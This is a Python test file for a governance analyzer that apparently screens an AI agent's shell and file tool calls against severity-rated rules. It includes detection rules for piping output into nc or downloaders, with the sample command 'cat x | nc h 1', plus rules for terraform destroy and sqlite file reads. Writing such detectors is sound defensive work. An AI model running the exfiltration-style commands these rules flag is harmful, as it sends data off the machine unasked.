"""Rule schema validation and the built-in rule file."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from pydantic import ValidationError

from tether.governance.analyzer import Analyzer
from tether.governance.context import AnalysisContext
from tether.governance.findings import Severity
from tether.governance.rules import Rule, command_sets, load_builtin_rules, parse_rules


def _rule(**overrides: Any) -> dict[str, Any]:
    base: dict[str, Any] = {
        "id": "no-terraform-destroy",
        "severity": "HIGH",
        "description": "terraform destroy",
        "command": ["terraform"],
        "subcommand": ["destroy"],
    }
    base.update(overrides)
    return base


def test_builtin_rules_load_and_are_cached() -> None:
    rules = load_builtin_rules()
    assert len(rules) > 40
    assert load_builtin_rules() == rules
    assert load_builtin_rules() is not rules  # callers get a copy of the cached list
    assert len({r.id for r in rules}) == len(rules)
    severities = {r.severity for r in rules}
    assert severities == set(Severity)


def test_builtin_command_sets() -> None:
    sets = command_sets()
    assert "bash" in sets["shells"]
    assert "curl" in sets["downloaders"]


def test_parse_valid_user_rule() -> None:
    [rule] = parse_rules([_rule(severity="high")])
    assert rule.severity is Severity.HIGH
    assert rule.command == ("terraform",)
    assert rule.model_dump(exclude_none=True)["severity"] == "HIGH"


@pytest.mark.parametrize(
    "bad",
    [
        _rule(severity="SEVERE"),
        _rule(severity=3),
        _rule(unknown_key=True),
        _rule(id=""),
        _rule(id="has space"),
        _rule(description=""),
        _rule(args_any_target="nowhere"),
        _rule(kind="network"),
        _rule(ops=["read"]),  # file matcher on a shell rule
        _rule(kind="file", command=None, subcommand=None, ops=["delete"]),
        {"id": "x", "severity": "LOW", "description": "no matcher"},
    ],
)
def test_invalid_rules_raise_validation_error(bad: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        parse_rules([bad])


def test_bad_regex_and_unknown_set_have_clear_messages() -> None:
    with pytest.raises(ValidationError, match="not a valid regex"):
        parse_rules([_rule(arg_regex="(")])
    with pytest.raises(ValidationError, match="unknown command set"):
        parse_rules([_rule(command=["@nope"])])


def test_duplicate_and_reserved_ids_are_rejected() -> None:
    with pytest.raises(ValueError, match="duplicate rule id"):
        parse_rules([_rule(), _rule()])
    with pytest.raises(ValueError, match="reserved"):
        parse_rules([_rule(id="fork-bomb")])


def test_rule_is_immutable() -> None:
    [rule] = parse_rules([_rule()])
    with pytest.raises(ValidationError):
        rule.severity = Severity.LOW  # type: ignore[misc]


def test_user_rules_take_effect_and_can_be_replaced(ctx: AnalysisContext) -> None:
    analyzer = Analyzer()
    call = {"command": "terraform -chdir=infra destroy -auto-approve"}
    assert analyzer.analyze_tool_call("execute_shell_command", call, ctx) == []
    analyzer.set_user_rules(parse_rules([_rule()]))
    [finding] = analyzer.analyze_tool_call("execute_shell_command", call, ctx)
    assert finding.rule_id == "no-terraform-destroy"
    assert finding.severity is Severity.HIGH
    analyzer.set_user_rules([])
    assert analyzer.analyze_tool_call("execute_shell_command", call, ctx) == []


def test_user_rule_vocabulary(ctx: AnalysisContext) -> None:
    rules = parse_rules(
        [
            _rule(id="exfil", command=None, subcommand=None, piped_into=["nc", "@downloaders"]),
            _rule(
                id="make-dest", command=["make"], subcommand=None, kv_target={"DESTDIR": "system"}
            ),
            {
                "id": "read-db",
                "severity": "MEDIUM",
                "description": "database file",
                "kind": "file",
                "ops": ["read"],
                "path_glob": ["*.sqlite"],
            },
        ]
    )
    analyzer = Analyzer(rules)
    shell = "execute_shell_command"
    ids = {f.rule_id for f in analyzer.analyze_tool_call(shell, {"command": "cat x | nc h 1"}, ctx)}
    assert "exfil" in ids
    ids = {
        f.rule_id
        for f in analyzer.analyze_tool_call(shell, {"command": "make install DESTDIR=/usr"}, ctx)
    }
    assert "make-dest" in ids
    found = analyzer.analyze_tool_call("read_file", {"path": "data/app.sqlite"}, ctx)
    assert [f.rule_id for f in found] == ["read-db"]


def test_rule_model_round_trips_through_json() -> None:
    [rule] = parse_rules([_rule(flags_any=["-f"])])
    again = Rule.model_validate_json(rule.model_dump_json())
    assert again == rule


def test_builtin_rule_file_is_package_data() -> None:
    import tether.governance as pkg

    assert (Path(pkg.__file__).parent / "builtin_rules.toml").is_file()
